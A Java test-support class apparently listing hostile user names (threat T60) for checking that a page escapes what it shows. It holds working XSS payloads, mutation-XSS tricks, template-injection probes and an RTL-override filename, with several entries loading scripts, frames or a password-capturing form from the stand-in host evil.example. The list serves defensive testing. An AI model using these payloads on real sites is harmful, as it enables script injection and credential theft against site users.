package dev.latchkey.contract;

import java.util.List;
import java.util.stream.Stream;

/// Names with which somebody could try to change a page that shows them (threat T60). Each can be
/// registered.
public final class HostileNames {
  private static final List<String> ALL =
      List.of(
          "<script>alert(1)</script>",
          "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
          "<scr<script>ipt>alert(1)</scr</script>ipt>",
          "<img src=x onerror=alert(1)>",
          "<svg/onload=alert(1)>",
          "<svg><animate onbegin=alert(1) attributeName=x>",
          "<math><mtext><mglyph><style><img src=x onerror=alert(1)>",
          "\"><script>alert(1)</script>",
          "'><script>alert(1)</script>",
          "\" onmouseover=\"alert(1)",
          "' onfocus='alert(1)' autofocus='",
          "</bdi></h1><form action=//evil.example><input name=password>",
          "</title><script>alert(1)</script>",
          "</textarea><script>alert(1)</script>",
          "<!--",
          "--><script>alert(1)</script>",
          "<![CDATA[<script>alert(1)</script>]]>",
          "<iframe src=//evil.example>",
          "<object data=//evil.example>",
          "<embed src=//evil.example>",
          "<base href=//evil.example>",
          "<meta http-equiv=refresh content=0;url=//evil.example>",
          "<link rel=stylesheet href=//evil.example/x.css>",
          "<style>*{display:none}</style>",
          "<a href=javascript:alert(1)>x</a>",
          "javascript:alert(1)",
          "&lt;script&gt;alert(1)&lt;/script&gt;",
          "${1+1} #{1+1} {{1+1}} @template.layout()",
          "\u202Egnp.exe\u202C <b>x",
          "＜script＞alert(1)＜/script＞");

  private HostileNames() {}

  public static Stream<String> all() {
    return ALL.stream();
  }
}
